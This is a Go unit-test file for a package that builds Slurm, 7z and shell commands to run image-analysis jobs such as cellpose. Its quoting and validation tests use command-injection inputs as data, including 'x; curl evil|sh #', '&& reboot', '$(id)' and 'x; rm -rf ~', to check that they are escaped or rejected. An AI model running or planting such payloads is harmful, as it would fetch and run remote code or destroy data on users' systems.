package domain

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func testSlurmConfig() SlurmConfig {
	cfg := NewSlurmConfig()
	cfg.ModelPaths["cellpose"] = "cellpose"
	cfg.ModelJobs["cellpose"] = "jobs/cellpose.sh"
	cfg.ModelPaths["stardist"] = "stardist"
	return cfg
}

func TestJobsQueryCommand(t *testing.T) {
	t.Parallel()

	assert.Equal(t,
		"sacct --starttime 2023-01-01 --endtime now --state r,cd,f,to,rs,dl,nf -o JobId -n -X ",
		JobsQuery{}.Command())
	assert.Equal(t,
		"sacct --starttime now --endtime now --state r -o JobId -n -X ",
		JobsQuery{StartTime: "now", States: "r"}.Command())
}

func TestSimpleCommands(t *testing.T) {
	t.Parallel()

	cfg := testSlurmConfig()

	assert.Equal(t, "sacct -n -o JobId,State,End -X -j 12", JobStatusCommand(12))
	assert.Equal(t, "omero-12.log", Logfile(12))
	assert.Equal(t, "tail -n 10 omero-12.log | strings", TailLogCommand(Logfile(12), 0))
	assert.Equal(t, "tail -n 3 x.log | strings", TailLogCommand("x.log", 3))
	assert.Equal(t, "7z a -y out -tzip my-scratch/data/in1/data/out", ZipCommand("my-scratch/data/in1", "out"))
	assert.Equal(t, "git -C slurm-scripts pull", cfg.UpdateScriptsCommand())
	assert.Equal(t, "ls -h my-scratch/data | grep -oP '.+(?=.zip)'", cfg.DataFilesCommand())
	assert.Equal(t,
		"ls -h my-scratch/singularity_images/workflows/cellpose | grep -oP '(?<=-)v.+(?=.simg)'",
		cfg.VersionsCommand("cellpose"))
}

func TestUnzipCommand(t *testing.T) {
	t.Parallel()

	cfg := testSlurmConfig()

	assert.Equal(t,
		"mkdir my-scratch/data/z my-scratch/data/z/data my-scratch/data/z/data/in my-scratch/data/z/data/out my-scratch/data/z/data/gt; "+
			"7z e -y -omy-scratch/data/z/data/in my-scratch/data/z.zip *.tiff *.tif",
		cfg.UnzipCommand("z", DefaultUnzipFilter))
	assert.Contains(t, cfg.UnzipCommand("z", ""), "my-scratch/data/z.zip *")
	assert.Equal(t,
		`mkdir 'my-scratch/data/a;b' 'my-scratch/data/a;b/data' 'my-scratch/data/a;b/data/in' 'my-scratch/data/a;b/data/out' 'my-scratch/data/a;b/data/gt'; `+
			`7z e -y '-omy-scratch/data/a;b/data/in' 'my-scratch/data/a;b.zip' *`,
		cfg.UnzipCommand("a;b", ""))
}

func TestSubmitCommand(t *testing.T) {
	t.Parallel()

	cfg := testSlurmConfig()
	email := "me@example.org"
	limit := "00:15:00"

	// when
	cmd, env, err := cfg.SubmitCommand(WorkflowRequest{
		Workflow:     "cellpose",
		ImageVersion: "v1.2.7",
		InputData:    "in1",
		Params:       map[string]string{"diameter": "15"},
		Email:        &email,
		Time:         &limit,
	})

	// then
	require.NoError(t, err)
	assert.Equal(t, "sbatch --time=00:15:00 --mail-user=me@example.org --output=omero-%4j.log slurm-scripts/jobs/cellpose.sh", cmd)
	assert.Equal(t, map[string]string{
		"DATA_PATH":     "my-scratch/data/in1",
		"IMAGE_PATH":    "my-scratch/singularity_images/workflows/cellpose",
		"IMAGE_VERSION": "v1.2.7",
		"DIAMETER":      "15",
	}, env)
}

func TestSubmitCommandQuotesArguments(t *testing.T) {
	t.Parallel()

	cfg := testSlurmConfig()
	cfg.ModelJobs["cellpose"] = "jobs/cell pose.sh"
	email := "x; curl evil|sh #"
	limit := "00:15:00 && reboot"

	// when
	cmd, _, err := cfg.SubmitCommand(WorkflowRequest{
		Workflow: "cellpose",
		Email:    &email,
		Time:     &limit,
	})

	// then
	require.NoError(t, err)
	assert.Equal(t,
		`sbatch --time='00:15:00 && reboot' --mail-user='x; curl evil|sh #' --output=omero-%4j.log 'slurm-scripts/jobs/cell pose.sh'`,
		cmd)
}

func TestSubmitCommandRejectsParamKeys(t *testing.T) {
	t.Parallel()

	cfg := testSlurmConfig()

	for _, key := range []string{"a=1; touch /tmp/pwned; b", "1st", "", "with space", "$(id)"} {
		_, _, err := cfg.SubmitCommand(WorkflowRequest{
			Workflow: "cellpose",
			Params:   map[string]string{"diameter": "15", key: "x"},
		})
		var paramErr InvalidParamError
		if assert.ErrorAs(t, err, &paramErr, key) {
			assert.Equal(t, key, paramErr.Key)
		}
	}

	_, env, err := cfg.SubmitCommand(WorkflowRequest{
		Workflow: "cellpose",
		Params:   map[string]string{"_nuc_channel2": "x; rm -rf ~"},
	})
	require.NoError(t, err)
	assert.Equal(t, "x; rm -rf ~", env["_NUC_CHANNEL2"])
}

func TestSubmitCommandUnknownWorkflow(t *testing.T) {
	t.Parallel()

	_, _, err := testSlurmConfig().SubmitCommand(WorkflowRequest{Workflow: "nope"})
	assert.ErrorAs(t, err, &UnknownWorkflowError{})

	_, _, err = testSlurmConfig().SubmitCommand(WorkflowRequest{Workflow: "stardist"})
	assert.Error(t, err)
}

func TestCellposeCommand(t *testing.T) {
	t.Parallel()

	cmd, env := testSlurmConfig().CellposeCommand(CellposeRequest{
		ImageVersion:  "v1.2.7",
		InputData:     "in1",
		Model:         "nuclei",
		NucChannel:    1,
		ProbThreshold: 0.5,
		CellDiameter:  100,
	})

	assert.Equal(t, "sbatch --output=omero-%4j.log slurm-scripts/jobs/cellpose.sh", cmd)
	assert.Equal(t, map[string]string{
		"DATA_PATH":      "my-scratch/data/in1",
		"IMAGE_PATH":     "my-scratch/singularity_images/workflows/cellpose",
		"IMAGE_VERSION":  "v1.2.7",
		"DIAMETER":       "100",
		"PROB_THRESHOLD": "0.5",
		"NUC_CHANNEL":    "1",
		"CP_MODEL":       "nuclei",
		"USE_GPU":        "true",
	}, env)
}

func TestWorkflows(t *testing.T) {
	t.Parallel()

	cfg := testSlurmConfig()
	assert.Equal(t, []string{"cellpose", "stardist"}, cfg.Workflows())

	w, err := cfg.Workflow("cellpose")
	require.NoError(t, err)
	assert.Equal(t, Workflow{Name: "cellpose", ModelPath: "cellpose", JobScript: "jobs/cellpose.sh"}, w)
}
